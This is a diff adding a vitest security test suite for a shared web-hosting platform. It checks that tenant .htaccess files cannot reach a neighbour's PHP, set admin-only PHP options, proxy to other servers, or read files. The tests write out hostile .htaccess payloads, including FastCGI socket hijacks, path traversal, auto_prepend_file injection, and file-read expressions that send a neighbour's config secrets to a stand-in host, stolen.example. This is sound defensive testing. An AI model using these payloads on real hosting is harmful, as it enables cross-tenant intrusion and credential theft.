@@ -1,0 +1,208 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { inServer, mustInServer } from "#harness/servers.ts";
+import { createSite, removeSite, type Site } from "#harness/site.ts";
+import { listServers } from "#harness/yard.ts";
+
+const DOMAINS = { owner: "owner.example.test", neighbour: "neighbour.example.test" };
+const BOX = "c1b1";
+/** Lies where every account of the box can read it, and says as whom it runs. */
+const PROGRAM = "/var/tmp/boxyard-tenant.php";
+const WHO = "<?php header('Cache-Control: no-store'); echo 'runs as ', posix_geteuid(), ' of ', getenv('BOXYARD_SITE');";
+let owner: Site;
+let neighbour: Site;
+let neighboursUid: string;
+let otherBox: string;
+
+beforeAll(async () => {
+  [owner, neighbour] = [await createSite(DOMAINS.owner), await createSite(DOMAINS.neighbour)];
+  await neighbour.repository.write({ "docroot/index.php": WHO });
+  await push(neighbour);
+  neighboursUid = (await mustInServer(BOX, "id", "-u", neighbour.website.id)).trim();
+  otherBox = (await listServers()).find(({ name }) => name === "c1b2")?.address ?? "";
+  await inServer(BOX, ["tee", PROGRAM], WHO);
+});
+
+afterAll(async () => {
+  await mustInServer(BOX, "rm", "-f", PROGRAM);
+  for (const site of [owner, neighbour]) await removeSite(site);
+});
+
+async function push({ repository, website }: Site): Promise<void> {
+  await repository.commit("Files");
+  const pushed = await repository.push(website.gitUrl);
+  expect(pushed.exitCode, pushed.stderr).toBe(0);
+}
+
+/** What one box's web server answers to the owner's website: status line, headers and body. */
+function ask(path: string): Promise<string> {
+  return mustInServer(BOX, "curl", "-s", "-i", "--max-time", "10", "-H", `Host: ${DOMAINS.owner}`, `http://127.0.0.1${path}`);
+}
+
+/** The ways of a website's `.htaccess` to another website's PHP, by what they try. */
+function waysToTheNeighbour(): Record<string, string> {
+  const { id } = neighbour.website;
+  const socket = `unix:/run/php/boxyard-${id}.sock|fcgi://${id}`;
+  const rewrite = (to: string, flags: string): string => `RewriteEngine On\nRewriteRule ^x\\.txt$ ${to} [${flags}]\n`;
+  const script = `ProxyFCGISetEnvIf true SCRIPT_FILENAME ${PROGRAM}\n`;
+  const home = `/srv/sites/${id}/current/docroot/index.php`;
+  return {
+    "a handler": `SetHandler "proxy:${socket}"\n${script}`,
+    "a handler by ending": `AddHandler "proxy:${socket}" .txt\n${script}`,
+    "a type": `ForceType "proxy:${socket}"\n${script}`,
+    "a type by ending": `AddType "proxy:${socket}" .txt\n${script}`,
+    "a handler of a rewrite": `${rewrite("-", `H=proxy:${socket}`)}${script}`,
+    "a proxied rewrite": rewrite(`${socket}${PROGRAM}`, "P"),
+    "a proxied rewrite with a way up": rewrite(
+      `${socket}/srv/sites/${owner.website.id}/releases/${"a".repeat(40)}/../../../../..${PROGRAM}`,
+      "P",
+    ),
+    "the neighbour's own page": rewrite(`${socket}${home}`, "P"),
+    "the neighbour's own page with a program before it": `${rewrite(`${socket}${home}`, "P")}SetEnv PHP_ADMIN_VALUE auto_prepend_file=${PROGRAM}\n`,
+    "a translated path": `SetEnv PATH_TRANSLATED ${PROGRAM}\n${rewrite(`${socket}/`, "P")}`,
+  };
+}
+
+describe("a website's .htaccess", () => {
+  test("has no way to another website's PHP", async () => {
+    const ways = Object.entries(waysToTheNeighbour());
+    for (const [index, [, content]] of ways.entries())
+      await owner.repository.write({ [`docroot/way${index}/.htaccess`]: content, [`docroot/way${index}/x.txt`]: "text" });
+    await push(owner);
+    for (const [index, [what]] of ways.entries()) {
+      const answer = await ask(`/way${index}/x.txt`);
+      expect(answer, what).not.toContain(`runs as ${neighboursUid}`);
+      expect(answer, what).not.toContain("runs as");
+    }
+  });
+
+  test("gives its own PHP no setting that the pool's owner alone may set", async () => {
+    await owner.repository.write({
+      "docroot/setting/.htaccess": 'SetEnv PHP_ADMIN_VALUE "opcache.validate_permission=0"\n',
+      "docroot/setting/index.php": "<?php echo 'validates permission: ', ini_get('opcache.validate_permission');",
+    });
+    await push(owner);
+    expect(await ask("/setting/index.php")).toContain("validates permission: 1");
+  });
+
+  test("makes Apache begin no connection to another server", async () => {
+    await owner.repository.write({
+      "docroot/out/.htaccess": `RewriteEngine On\nRewriteRule ^http$ http://${otherBox}/boxyard-health [P]\nRewriteRule ^fcgi$ fcgi://${otherBox}:80/x [P]\nRewriteRule ^name$ http://${DOMAINS.neighbour}/ [P]\n`,
+    });
+    await push(owner);
+    expect(await mustInServer(BOX, "curl", "-s", `http://${otherBox}/boxyard-health`), "the address answers others").toContain("ready");
+    for (const way of ["http", "fcgi", "name"]) expect(await ask(`/out/${way}`), way).toMatch(/^HTTP\/1\.1 50[023]/);
+  });
+
+  test("reads no file in an expression", async () => {
+    const file = `/srv/sites/${neighbour.website.id}/config/environment`;
+    const ways = [
+      `Header set X-Stolen "expr=%{file:${file}}"\n`,
+      `RewriteEngine On\nRewriteCond expr "file('${file}') =~ m#(.+)#"\nRewriteRule ^ https://stolen.example/%1 [R]\n`,
+      `ErrorDocument 404 "%{file:${file}}"\n`,
+    ];
+    for (const [index, content] of ways.entries()) await owner.repository.write({ [`docroot/read${index}/.htaccess`]: content });
+    await push(owner);
+    for (const index of ways.keys()) expect(await ask(`/read${index}/x.txt`)).not.toContain("DB_PASSWORD");
+  });
+
+  test("does all that Drupal's and WordPress's own files ask for", async () => {
+    await owner.repository.write({
+      Boxfile: "version: 2.0\nshared_folders:\n  - docroot/files\n",
+      "docroot/drupal/.htaccess": DRUPAL,
+      "docroot/drupal/index.php": "<?php echo 'front controller ', $_SERVER['REQUEST_URI'], ' ', $_SERVER['HTTP_AUTHORIZATION'] ?? '';",
+      "docroot/drupal/settings.inc": "secret",
+      "docroot/drupal/style.css": "p {}",
+      "docroot/drupal/picture.svgz": "x",
+      "docroot/wordpress/.htaccess": WORDPRESS,
+      "docroot/wordpress/index.php": "<?php echo 'WordPress answers ', $_SERVER['REQUEST_URI'];",
+    });
+    await push(owner);
+    const files = `/srv/sites/${owner.website.id}/current/docroot/files`;
+    await inServer(BOX, ["tee", `${files}/.htaccess`], DRUPAL_FILES);
+    await inServer(BOX, ["tee", `${files}/uploaded.php`], "<?php echo 'it ', 'runs';");
+    expect(await ask("/drupal/node/1?page=2")).toContain("front controller /drupal/node/1?page=2");
+    expect(await ask("/drupal/settings.inc")).toMatch(/^HTTP\/1\.1 403/);
+    expect(await ask("/drupal/vendor/evil.php")).toMatch(/^HTTP\/1\.1 403/);
+    expect(await ask("/drupal/style.css")).toMatch(/cache-control: max-age=1209600/i);
+    expect(await ask("/drupal/style.css")).toMatch(/x-content-type-options: nosniff/i);
+    expect(await ask("/drupal/picture.svgz")).toMatch(/content-type: image\/svg\+xml/i);
+    expect(await ask("/drupal/picture.svgz")).toMatch(/content-encoding: (?:x-)?gzip/i);
+    expect(await ask("/wordpress/hello-world/")).toContain("WordPress answers /wordpress/hello-world/");
+    expect(await ask("/files/uploaded.php")).not.toContain("it runs");
+  });
+});
+
+/** Of Drupal's own file what the web server has to understand. */
+const DRUPAL = `<FilesMatch "\\.(engine|inc|install|module|profile|po|sh|.*sql|theme|twig|tpl(\\.php)?|xtmpl|yml)(~|\\.sw[op]|\\.bak|\\.orig|\\.save)?$">
+  <IfModule mod_authz_core.c>
+    Require all denied
+  </IfModule>
+  <IfModule !mod_authz_core.c>
+    Order allow,deny
+  </IfModule>
+</FilesMatch>
+Options -Indexes
+DirectoryIndex index.php index.html index.htm
+AddType image/svg+xml svg svgz
+AddEncoding gzip svgz
+<IfModule mod_php.c>
+  php_value assert.active 0
+</IfModule>
+<IfModule mod_expires.c>
+  ExpiresActive On
+  ExpiresDefault A1209600
+  <FilesMatch \\.php$>
+    ExpiresActive Off
+  </FilesMatch>
+</IfModule>
+<IfModule mod_fastcgi.c>
+</IfModule>
+<IfModule mod_rewrite.c>
+  RewriteEngine on
+  RewriteRule ^ - [E=protossl]
+  RewriteCond %{HTTPS} on
+  RewriteRule ^ - [E=protossl:s]
+  RewriteRule ^ - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]
+  RewriteRule "/\\.|^\\.(?!well-known/)" - [F]
+  RewriteCond %{REQUEST_FILENAME} !-f
+  RewriteCond %{REQUEST_FILENAME} !-d
+  RewriteCond %{REQUEST_URI} !=/favicon.ico
+  RewriteCond %{REQUEST_URI} !^/drupal/vendor/
+  RewriteRule ^ index.php [L]
+  RewriteCond %{REQUEST_URI} !/core/[^/]*\\.php$
+  RewriteRule "^(.+/.*|autoload)\\.php($|/)" - [F]
+</IfModule>
+<IfModule mod_headers.c>
+  Header always set X-Content-Type-Options nosniff
+  RequestHeader unset Proxy early
+</IfModule>
+`;
+
+const DRUPAL_FILES = `<IfModule mod_authz_core.c>
+  <FilesMatch "\\.htaccess$">
+    Require all denied
+  </FilesMatch>
+</IfModule>
+Options None
+Options +FollowSymLinks
+SetHandler Drupal_Security_Do_Not_Remove_See_SA_2006_006
+<Files *>
+  SetHandler Drupal_Security_Do_Not_Remove_See_SA_2013_003
+</Files>
+<IfModule mod_php.c>
+  php_flag engine off
+</IfModule>
+`;
+
+const WORDPRESS = `# BEGIN WordPress
+<IfModule mod_rewrite.c>
+RewriteEngine On
+RewriteRule .* - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]
+RewriteBase /wordpress/
+RewriteRule ^index\\.php$ - [L]
+RewriteCond %{REQUEST_FILENAME} !-f
+RewriteCond %{REQUEST_FILENAME} !-d
+RewriteRule . /wordpress/index.php [L]
+</IfModule>
+# END WordPress
+`;
